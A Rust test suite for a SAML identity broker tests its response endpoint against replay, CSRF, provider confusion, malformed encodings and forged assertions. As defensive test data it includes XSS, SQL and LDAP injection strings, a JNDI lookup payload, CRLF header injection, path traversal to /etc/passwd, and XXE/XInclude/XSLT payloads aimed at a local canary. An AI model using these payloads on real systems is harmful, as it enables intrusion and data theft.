//! The address where answers arrive, attacked over HTTP on a whole broker: SA-29, SA-40, SA-44,
//! SA-51, SA-53, SA-54, SA-58 to SA-63, SA-79, SA-80, CF-F. Every test signs somebody in at the end:
//! an attack that breaks the broker for the next person is one that succeeded.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use serde_json::Value;
use tokio::io::AsyncReadExt as _;
use varco_sandbox::browser::html::links;

use crate::fixture_redis::{RedisServer, free_port};
use crate::saml_world::{Answer, Asked, FIRST, SECOND, World, mario, person};

/// A broker on each kind of shelves.
async fn on_both_stores() -> [(World, Option<RedisServer>); 2] {
    let server = RedisServer::start(&[]);
    let shared = World::start(&server.url()).await;
    [(World::start("memory").await, None), (shared, Some(server))]
}

fn name_of(told: &Value) -> &str {
    told["userinfo"]["given_name"].as_str().unwrap()
}

/// The end of every test: whatever happened before, the next person signs in.
async fn and_the_next_person_signs_in(world: World) {
    let told = world.visitor().sign_in("inps", FIRST, &mario()).await;
    assert_eq!(name_of(&told), "Mario");
    world.stop().await;
}

fn form<'a>(answer: &'a str, asked: &'a Asked) -> [(&'a str, &'a str); 2] {
    [("SAMLResponse", answer), ("RelayState", &asked.ticket)]
}

/// SA-58: the same Response fifty times at once, then the same browser going on fifty times at once.
#[tokio::test]
async fn of_fifty_posts_of_one_answer_one_counts_and_it_gives_one_code() {
    for (world, _server) in on_both_stores().await {
        let mut visitor = world.visitor();
        let asked = visitor.depart("inps", FIRST).await;
        let answer = Answer::to(&asked, FIRST).encoded(&world);
        let fields = form(&answer, &asked);
        let replies = all((0..50).map(|_| world.post(&fields))).await;
        let (counted, refused): (Vec<_>, Vec<_>) =
            replies.iter().partition(|reply| reply.status == 303);
        assert_eq!((counted.len(), refused.len()), (1, 49));
        for reply in refused {
            reply.refuses("response-replayed");
        }

        let address = visitor.at_broker(&format!("/login/continue?tx={}", asked.tx));
        let replies = all((0..50).map(|_| visitor.peek(&address))).await;
        let codes = replies.iter().filter(|reply| reply.status == 303).count();
        assert_eq!(codes, 1);
        for reply in replies.iter().filter(|reply| reply.status != 303) {
            reply.refuses("login-expired");
        }
        world.post(&form(&answer, &asked)).await.refuses("response-replayed");
        and_the_next_person_signs_in(world).await;
    }
}

pub(crate) async fn all<T>(work: impl Iterator<Item = impl Future<Output = T>>) -> Vec<T> {
    let mut running: Vec<_> = work.map(Box::pin).collect();
    let mut done: Vec<Option<T>> = running.iter().map(|_| None).collect();
    std::future::poll_fn(|context| {
        for (at, place) in running.iter_mut().zip(&mut done) {
            if place.is_none()
                && let std::task::Poll::Ready(value) = at.as_mut().poll(context)
            {
                *place = Some(value);
            }
        }
        if done.iter().all(Option::is_some) {
            std::task::Poll::Ready(())
        } else {
            std::task::Poll::Pending
        }
    })
    .await;
    done.into_iter().flatten().collect()
}

/// SA-58: another node of the same shelves, and the same node after a restart.
#[tokio::test]
async fn an_answer_counts_once_at_any_node_and_after_a_restart() {
    let server = RedisServer::start(&[]);
    let mut world = World::start(&server.url()).await;
    let ports = world.prepared.ports;
    let (second, operations, card) = (free_port(), free_port(), free_port());
    let listen = |port: u16| format!("= \"127.0.0.1:{port}\"");
    world.rewrite(
        "varco.toml",
        "second.toml",
        &[
            (&listen(ports.broker), &listen(second)),
            (&listen(ports.operations), &listen(operations)),
            (&listen(ports.card), &listen(card)),
        ],
    );
    world.run("second.toml").await;
    let there = world.consumer.replace(&ports.broker.to_string(), &second.to_string());
    let mut used = Vec::new();
    for (first, then) in [(&world.consumer, &there), (&there, &world.consumer)] {
        let mut visitor = world.visitor();
        let asked = visitor.depart("inps", FIRST).await;
        let answer = Answer::to(&asked, FIRST).encoded(&world);
        assert_eq!(world.post_to(first, &form(&answer, &asked)).await.status, 303);
        world.post_to(then, &form(&answer, &asked)).await.refuses("response-replayed");
        let told = visitor.arrive(&asked).await;
        assert_eq!(name_of(&told), "Mario");
        used.push((answer, asked));
    }
    world.halt().await;
    world.run("varco.toml").await;
    for (answer, asked) in &used {
        world.post(&form(answer, asked)).await.refuses("response-replayed");
    }
    and_the_next_person_signs_in(world).await;
}

/// SA-59: what was used is remembered by provider and assertion, not by assertion alone.
#[tokio::test]
async fn one_assertion_id_is_used_once_by_each_provider() {
    for (world, _server) in on_both_stores().await {
        for provider in [FIRST, SECOND] {
            let mut visitor = world.visitor();
            let asked = visitor.depart("inps", provider).await;
            let answer = Answer::to(&asked, provider).with_id("_the-same").encoded(&world);
            assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
            assert_eq!(name_of(&visitor.arrive(&asked).await), "Mario");
        }
        for provider in [FIRST, SECOND] {
            let mut visitor = world.visitor();
            let asked = visitor.depart("inps", provider).await;
            let answer = Answer::to(&asked, provider).with_id("_the-same").encoded(&world);
            assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
            visitor.go_on(&asked.tx).await.refuses("response-replayed");
        }
        and_the_next_person_signs_in(world).await;
    }
}

/// SA-60: a `RelayState` names a journey or nothing; it is no address, no text and no header.
#[tokio::test]
async fn a_relay_state_that_is_no_ticket_leads_nowhere() {
    let world = World::start("memory").await;
    let mut visitor = world.visitor();
    let asked = visitor.depart("inps", FIRST).await;
    let answer = Answer::to(&asked, FIRST).encoded(&world);
    for relay_state in [
        "x".repeat(81),
        "x".repeat(64 * 1024),
        "https://evil.example/".to_owned(),
        "//evil.example".to_owned(),
        "javascript:alert(1)".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        "\" onload=\"alert(1)".to_owned(),
        "x\r\nSet-Cookie: evil=1".to_owned(),
        "cookie".to_owned(),
        String::new(),
        asked.tx.clone(),
        format!("{} ", asked.ticket),
        asked.ticket.to_uppercase(),
        format!("{}0", asked.ticket),
    ] {
        let reply = world.post(&[("SAMLResponse", &answer), ("RelayState", &relay_state)]).await;
        reply.refuses("response-unsolicited");
        for trace in ["evil", "alert(1)", "xxxxxxxx"] {
            assert!(!reply.body.contains(trace), "{relay_state:.40} is shown");
        }
    }
    let ticket = ("RelayState", asked.ticket.as_str());
    let message = ("SAMLResponse", answer.as_str());
    world.post(&[message]).await.refuses("response-unsolicited");
    world.post(&[message, ticket, ticket]).await.refuses("response-unsolicited");
    world.post(&[message, ticket, ("RelayState", "x")]).await.refuses("response-unsolicited");
    // None of this was the answer: the genuine one still is.
    assert_eq!(world.post(&[message, ticket]).await.status, 303);
    assert_eq!(name_of(&visitor.arrive(&asked).await), "Mario");
    and_the_next_person_signs_in(world).await;
}

/// SA-44, SA-62: tickets and answers of two logins, of two services, crossed.
#[tokio::test]
async fn an_answer_to_another_request_is_refused_and_ends_neither_login() {
    let world = World::start("memory").await;
    let (mut one, mut other) = (world.visitor(), world.visitor());
    let ours = one.depart("inps", FIRST).await;
    let theirs = other.depart("lavoro", FIRST).await;
    let answer = Answer::to(&ours, FIRST).encoded(&world);
    let crossed = world.post(&form(&answer, &theirs)).await;
    assert_eq!(crossed.status, 303);
    assert_eq!(crossed.location, format!("/login/continue?tx={}", theirs.tx));
    other.go_on(&theirs.tx).await.refuses("response-in-response-to");
    one.go_on(&ours.tx).await.refuses("login-unanswered");
    let anna = person("SMPDAA80E54H501P", "Anna");
    let answers = [
        (&mut one, &ours, Answer::to(&ours, FIRST), "Mario"),
        (&mut other, &theirs, Answer::to(&theirs, FIRST).of(&anna), "Anna"),
    ];
    for (visitor, asked, answer, name) in answers {
        let answer = answer.encoded(&world);
        assert_eq!(world.post(&form(&answer, asked)).await.status, 303);
        assert_eq!(name_of(&visitor.arrive(asked).await), name);
    }
    and_the_next_person_signs_in(world).await;
}

/// SA-40: another trusted provider answers what it was not asked.
#[tokio::test]
async fn an_answer_of_the_provider_that_was_not_asked_is_refused() {
    let world = World::start("memory").await;
    let mut visitor = world.visitor();
    let asked = visitor.depart("inps", FIRST).await;
    let answer = Answer::to(&asked, SECOND).encoded(&world);
    assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
    visitor.go_on(&asked.tx).await.refuses("signature-other-provider");
    let answer = Answer::to(&asked, FIRST).encoded(&world);
    assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
    assert_eq!(name_of(&visitor.arrive(&asked).await), "Mario");
    and_the_next_person_signs_in(world).await;
}

/// SA-61, SA-62: whoever carries an answer, only the browser that began the login goes on with it.
#[tokio::test]
async fn an_answer_signs_in_only_the_browser_that_began_its_login() {
    let world = World::start("memory").await;
    // The attacker signs in as himself and hands his answer to the victim's browser.
    let mut attacker = world.visitor();
    let asked = attacker.depart("inps", FIRST).await;
    let answer = Answer::to(&asked, FIRST).encoded(&world);
    let arrived = world.post(&form(&answer, &asked)).await;
    assert_eq!(arrived.status, 303);
    let mut without_cookies = world.visitor();
    without_cookies.go_on(&asked.tx).await.refuses("cookies-blocked");
    let mut with_a_login = world.visitor();
    let own = with_a_login.depart("inps", FIRST).await;
    with_a_login.go_on(&asked.tx).await.refuses("other-browser");
    // The other way round: the victim's answer in the attacker's browser, under either login.
    let answer = Answer::to(&own, FIRST).encoded(&world);
    assert_eq!(world.post(&form(&answer, &own)).await.status, 303);
    attacker.go_on(&own.tx).await.refuses("other-browser");
    // Neither login was spent by the attempts.
    assert_eq!(name_of(&with_a_login.arrive(&own).await), "Mario");
    assert_eq!(name_of(&attacker.arrive(&asked).await), "Mario");
    and_the_next_person_signs_in(world).await;
}

/// SA-63: one method, one media type, one field of each name, one encoding.
#[tokio::test]
async fn the_consumer_reads_one_form_with_one_response() {
    let world = World::start("memory").await;
    let mut visitor = world.visitor();
    let asked = visitor.depart("inps", FIRST).await;
    let answer = Answer::to(&asked, FIRST).encoded(&world);
    let encode =
        |text: &str| -> String { url::form_urlencoded::byte_serialize(text.as_bytes()).collect() };
    let body = format!("SAMLResponse={}&RelayState={}", encode(&answer), asked.ticket);
    let form_type = "application/x-www-form-urlencoded";
    for method in ["GET", "PUT", "DELETE", "PATCH", "OPTIONS"] {
        let reply = world.send(method, &world.consumer, form_type, body.clone()).await;
        assert_eq!((reply.status, reply.slug().as_str()), (405, "method-not-allowed"), "{method}");
    }
    let head = world.send("HEAD", &world.consumer, form_type, String::new()).await;
    assert_eq!(head.status, 405);
    let in_query = format!("{}?{body}", world.consumer);
    let reply = world.send("GET", &in_query, form_type, String::new()).await;
    assert_eq!(reply.status, 405);
    let json = format!("{{\"SAMLResponse\":\"{answer}\",\"RelayState\":\"{}\"}}", asked.ticket);
    let boundary = "multipart/form-data; boundary=b";
    let parts = format!(
        "--b\r\nContent-Disposition: form-data; name=\"SAMLResponse\"\r\n\r\n{answer}\r\n\
         --b\r\nContent-Disposition: form-data; name=\"RelayState\"\r\n\r\n{}\r\n--b--\r\n",
        asked.ticket
    );
    for (media_type, body) in [
        ("application/json", json),
        (boundary, parts),
        ("text/plain", body.clone()),
        ("application/samlassertion+xml", Answer::to(&asked, FIRST).xml(&world)),
        ("application/x-www-form-urlencodedx", body.clone()),
        ("", body.clone()),
    ] {
        let reply = world.send("POST", &world.consumer, media_type, body).await;
        assert_eq!(
            (reply.status, reply.slug().as_str()),
            (400, "malformed-request"),
            "{media_type}"
        );
    }
    // The query of a POST is no part of its form.
    let reply = world.send("POST", &in_query, form_type, String::new()).await;
    reply.refuses("response-unsolicited");

    let twice = encode(&encode(&answer));
    // An encoding of the form, not of the message: `-` and `_` are no base64 of this kind.
    let url_safe = URL_SAFE.encode(STANDARD.decode(&answer).unwrap());
    assert!(twice.contains("%25") && url_safe.contains(['-', '_']));
    for (case, fields) in [
        ("doubled", format!("SAMLResponse={0}&SAMLResponse={0}", encode(&answer))),
        ("two different", format!("SAMLResponse={}&SAMLResponse=x", encode(&answer))),
        ("an artifact beside it", format!("SAMLResponse={}&SAMLart=AAQA", encode(&answer))),
        ("a request beside it", format!("SAMLResponse={}&SAMLRequest=x", encode(&answer))),
        ("an artifact alone", "SAMLart=AAQA".to_owned()),
        ("another case", format!("samlresponse={}", encode(&answer))),
        ("base64 for addresses", format!("SAMLResponse={url_safe}")),
        ("percent twice", format!("SAMLResponse={twice}")),
        ("nothing", "SAMLResponse=".to_owned()),
    ] {
        let body = format!("{fields}&RelayState={}", asked.ticket);
        let reply = world.send("POST", &world.consumer, form_type, body).await;
        if reply.status == 303 {
            assert_eq!(reply.location, format!("/login/continue?tx={}", asked.tx));
            let page = visitor.go_on(&asked.tx).await;
            assert!((400..500).contains(&page.status) && page.location.is_empty(), "{case}");
            assert!(
                ["response-malformed", "xml-not-well-formed"].contains(&page.slug().as_str()),
                "{case}"
            );
        } else {
            assert_eq!(reply.status, 400, "{case}");
        }
    }
    assert_eq!(world.send("POST", &world.consumer, form_type, body).await.status, 303);
    assert_eq!(name_of(&visitor.arrive(&asked).await), "Mario");
    and_the_next_person_signs_in(world).await;
}

/// SA-51: names that are markup, commands or queries elsewhere reach the service as they are, and
/// nothing else.
#[tokio::test]
async fn texts_that_are_code_elsewhere_stay_texts() {
    let world = World::start("memory").await;
    for text in [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'; DROP TABLE people; --",
        "*)(uid=*))(|(uid=*",
        "\",\"sub\":\"somebody else",
        "${jndi:ldap://canary.example/a}",
        "{{7*7}} %s %n ${7*7}",
        "\u{202e}oiraM\u{202c}",
        "Ĝ日本語 🦀 \u{10ffff}",
        "&amp;lt;",
        "\\u0000\\\"",
    ] {
        let mut anna = person("SMPDAA80E54H501P", text);
        anna.insert("familyName", text.to_owned());
        let told = world.visitor().sign_in("inps", FIRST, &anna).await;
        assert_eq!(told["userinfo"]["given_name"], text);
        assert_eq!(told["userinfo"]["family_name"], text);
        assert_eq!(told["id_token"]["sub"], told["userinfo"]["sub"]);
    }
    // Control characters are in no name: the value is absent, and so in no log, header or page.
    for text in ["Mario\r\nX-Evil: 1", "Mario\u{85}", "Mario\u{7f}"] {
        let mut anna = person("SMPDAA80E54H501P", "Anna");
        anna.insert("name", text.to_owned());
        let told = world.visitor().sign_in("inps", FIRST, &anna).await;
        assert_eq!(told["userinfo"]["given_name"], Value::Null, "{text:?}");
    }
    // What is no character of XML is in no message.
    let mut visitor = world.visitor();
    let asked = visitor.depart("inps", FIRST).await;
    let answer = Answer::to(&asked, FIRST).of(&person("SMPDAA80E54H501P", "A\u{1f}na"));
    let answer = answer.encoded(&world);
    assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
    visitor.go_on(&asked.tx).await.refuses("xml-not-well-formed");
    and_the_next_person_signs_in(world).await;
}

/// SA-29, SA-53, SA-54: a listener that nobody may call is named wherever a message can name one.
#[tokio::test]
async fn nothing_that_a_message_names_is_ever_fetched() {
    let canary = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}/", canary.local_addr().unwrap());
    let calls = Arc::new(AtomicUsize::new(0));
    let heard = Arc::new(Mutex::new(String::new()));
    let (counted, said) = (calls.clone(), heard.clone());
    let listening = tokio::spawn(async move {
        while let Ok((mut stream, _)) = canary.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            let mut octets = [0; 256];
            let read = stream.read(&mut octets).await.unwrap_or_default();
            said.lock().unwrap().push_str(&String::from_utf8_lossy(&octets[..read]));
        }
    });
    let world = World::start("memory").await;
    let mut visitor = world.visitor();
    let asked = visitor.depart("inps", FIRST).await;
    let good = Answer::to(&asked, FIRST).xml(&world);
    let start = "<samlp:Response ";
    let include =
        format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{address}\"/>");
    let schema = format!(
        "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x {address}\" "
    );
    for (from, to) in [
        (start, format!("<!DOCTYPE r SYSTEM \"{address}\">{start}")),
        (start, format!("<!DOCTYPE r [<!ENTITY e SYSTEM \"{address}\">]>{start}")),
        (start, format!("<!DOCTYPE r [<!ENTITY % e SYSTEM \"{address}\"> %e;]>{start}")),
        (start, format!("<?xml-stylesheet href=\"{address}\"?>{start}")),
        (start, format!("{start}{schema}")),
        ("<samlp:Status>", format!("{include}<samlp:Status>")),
        (">Mario<", format!(">{include}<")),
        ("<ds:X509Data>", format!("<ds:RetrievalMethod URI=\"{address}\"/><ds:X509Data>")),
        ("<ds:Reference URI=\"#", format!("<ds:Reference URI=\"{address}#")),
        (
            "<ds:Transform ",
            format!(
                "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><x:include href=\"{address}\"/></x:stylesheet></ds:Transform><ds:Transform "
            ),
        ),
        (">https://first.example<", format!(">{address}<")),
    ] {
        let message = good.replacen(from, &to, 1);
        assert_ne!(message, good, "{from}");
        let reply = world.post(&form(&STANDARD.encode(message), &asked)).await;
        // A hint beside what is signed changes nothing: that answer may count.
        if to.contains("schemaLocation") {
            assert_eq!(name_of(&visitor.arrive(&asked).await), "Mario");
            visitor = world.visitor();
            continue;
        }
        assert!(reply.status == 303 || (400..500).contains(&reply.status), "{reply:?}");
        let page = visitor.go_on(&asked.tx).await;
        assert!((400..500).contains(&page.status) && page.location.is_empty(), "{to}: {page:?}");
    }
    and_the_next_person_signs_in(world).await;
    assert_eq!(calls.load(Ordering::SeqCst), 0, "{}", heard.lock().unwrap());
    listening.abort();
}

/// SA-79: switched off between the request and its answer.
#[tokio::test]
async fn a_provider_disabled_meanwhile_signs_nobody_in() {
    let server = RedisServer::start(&[]);
    let mut world = World::start(&server.url()).await;
    let (asked, answer, cookies) = {
        let mut visitor = world.visitor();
        let asked = visitor.depart("inps", FIRST).await;
        let answer = Answer::to(&asked, FIRST).encoded(&world);
        (asked, answer, visitor.into_cookies())
    };
    let off = format!("disabled_providers = [\"{FIRST}\"]\nmetadata_files = [");
    world.rewrite("varco.toml", "disabled.toml", &[("metadata_files = [", &off)]);
    world.halt().await;
    world.run("disabled.toml").await;
    {
        let mut visitor = world.visitor_with(cookies);
        assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
        visitor.go_on(&asked.tx).await.refuses("provider-disabled");
        let (page, tx) = visitor.begin("inps").await;
        assert!(!page.body.contains("first.example") && page.body.contains("second.example"));
        // Its name in the address is of no use either, nor is an answer that nobody asked for.
        let link = links(&page.body).into_iter().find(|link| link.contains("second.example"));
        let link = link.unwrap().replace("second.example", "first.example");
        let reply = visitor.get(&visitor.at_broker(&link)).await;
        reply.refuses("provider-disabled");
        world.post(&[("SAMLResponse", &answer)]).await.refuses("response-unsolicited");
        visitor.go_on(&tx).await.refuses("login-unanswered");
    }
    let told = world.visitor().sign_in("inps", SECOND, &mario()).await;
    assert_eq!(name_of(&told), "Mario");
    world.stop().await;
}

/// SA-80: who is asked is one provider on our list, named once.
#[tokio::test]
async fn a_link_to_no_provider_of_ours_leaves_for_nowhere() {
    let world = World::start("memory").await;
    let mut visitor = world.visitor();
    let (page, tx) = visitor.begin("inps").await;
    let link = links(&page.body).into_iter().find(|link| link.contains("first.example")).unwrap();
    let (encoded, plain) = ("https%3A%2F%2Ffirst.example", "https://first.example");
    assert!(link.contains(encoded));
    for other in [
        String::new(),
        "https%3A%2F%2Fevil.example".to_owned(),
        format!("{encoded}%2F"),
        format!("{encoded}%00"),
        format!("{encoded}%0D%0AX%3A%20y"),
        format!("%20{encoded}"),
        encoded.replace("first", "FIRST"),
        encoded.replace('%', "%25"),
        format!("{encoded}&provider={encoded}"),
        format!("{encoded}&provider=https%3A%2F%2Fevil.example"),
        "javascript%3Aalert(1)".to_owned(),
        "..%2F..%2Fetc%2Fpasswd".to_owned(),
    ] {
        let reply = visitor.get(&visitor.at_broker(&link.replace(encoded, &other))).await;
        assert!(
            (400..500).contains(&reply.status) && reply.location.is_empty(),
            "{other}: {reply:?}"
        );
        // The switch of languages repeats the query, encoded; nothing shows or follows it.
        assert!(
            !reply.body.contains("//evil.example") && !reply.body.contains("alert(1)"),
            "{other}"
        );
    }
    // The name itself, encoded or not, is the provider's.
    for same in [encoded, plain] {
        let reply = visitor.get(&visitor.at_broker(&link.replace(encoded, same))).await;
        assert!(reply.location.starts_with("https://first.example/sso?SAMLRequest="), "{reply:?}");
    }
    visitor.go_on(&tx).await.refuses("login-unanswered");
    and_the_next_person_signs_in(world).await;
}

/// SA-80: requests tell the provider who asks, for which level, and nothing of the person, the
/// service or the login.
#[tokio::test]
async fn a_request_is_new_each_time_and_names_nobody() {
    let world = World::start("memory").await;
    let (mut ids, mut tickets) =
        (std::collections::BTreeSet::new(), std::collections::BTreeSet::new());
    for _ in 0..10 {
        let mut visitor = world.visitor();
        let asked = visitor.depart("inps", FIRST).await;
        let names: Vec<String> = url::Url::parse(&asked.address)
            .unwrap()
            .query_pairs()
            .map(|(name, _)| name.into_owned())
            .collect();
        assert_eq!(names, ["SAMLRequest", "RelayState", "SigAlg", "Signature"]);
        assert!(asked.ticket.len() <= 80, "bindings 3.4.3");
        for inner in [asked.tx.as_str(), "inps", "INPS", "localhost:8081", &asked.ticket] {
            assert!(!asked.message.contains(inner), "{inner}");
        }
        assert!(!asked.address.contains(&asked.tx) && asked.id.len() >= 33);
        ids.insert(asked.id);
        tickets.insert(asked.ticket);
    }
    assert_eq!((ids.len(), tickets.len()), (10, 10));
    and_the_next_person_signs_in(world).await;
}

/// CF-F: two people whose fiscal codes are forms of one base, step by step over one connection.
#[tokio::test]
async fn homonyms_who_sign_in_together_never_meet() {
    for (world, _server) in on_both_stores().await {
        let people = [person("RSSMRA80A01H50MM", "Uno"), person("RSSMRA80A01H5L1F", "Due")];
        let mut subjects = [std::collections::BTreeSet::new(), std::collections::BTreeSet::new()];
        for round in 0..4 {
            let (mut one, mut two) = (world.visitor(), world.visitor());
            let (first, second) =
                (one.depart("inps", FIRST).await, two.depart("inps", FIRST).await);
            let answers = [
                Answer::to(&first, FIRST).of(&people[0]).encoded(&world),
                Answer::to(&second, FIRST).of(&people[1]).encoded(&world),
            ];
            if round % 2 == 0 {
                assert_eq!(world.post(&form(&answers[0], &first)).await.status, 303);
                assert_eq!(world.post(&form(&answers[1], &second)).await.status, 303);
            } else {
                let both = [form(&answers[1], &second), form(&answers[0], &first)];
                let replies = all(both.iter().map(|fields| world.post(fields))).await;
                assert!(replies.iter().all(|reply| reply.status == 303));
            }
            let (told_two, told_one) = (two.arrive(&second).await, one.arrive(&first).await);
            for (at, (told, person)) in
                [(told_one, &people[0]), (told_two, &people[1])].into_iter().enumerate()
            {
                assert_eq!(name_of(&told), person["name"]);
                subjects[at].insert(told["userinfo"]["sub"].as_str().unwrap().to_owned());
            }
        }
        assert_eq!((subjects[0].len(), subjects[1].len()), (1, 1));
        assert!(subjects[0].is_disjoint(&subjects[1]));
        and_the_next_person_signs_in(world).await;
    }
}

/// O8: what is forged does not end the login of whoever is forged; what is genuine ends it once.
#[tokio::test]
async fn a_forged_answer_leaves_the_login_to_its_owner() {
    let world = World::start("memory").await;
    let mut visitor = world.visitor();
    let asked = visitor.depart("inps", FIRST).await;
    let genuine = Answer::to(&asked, FIRST);
    let changed = genuine.xml(&world).replace("RSSMRA80A01H501U", "SMPDAA80E54H501P");
    for (forged, slug) in [
        (STANDARD.encode(changed), "assertion-signature-invalid"),
        (genuine.clone().unsigned().encoded(&world), "response-unsigned"),
        ("bm9wZQ==".to_owned(), "xml-not-well-formed"),
    ] {
        assert_eq!(world.post(&form(&forged, &asked)).await.status, 303);
        visitor.go_on(&asked.tx).await.refuses(slug);
    }
    let answer = genuine.encoded(&world);
    assert_eq!(world.post(&form(&answer, &asked)).await.status, 303);
    assert_eq!(name_of(&visitor.arrive(&asked).await), "Mario");
    and_the_next_person_signs_in(world).await;
}
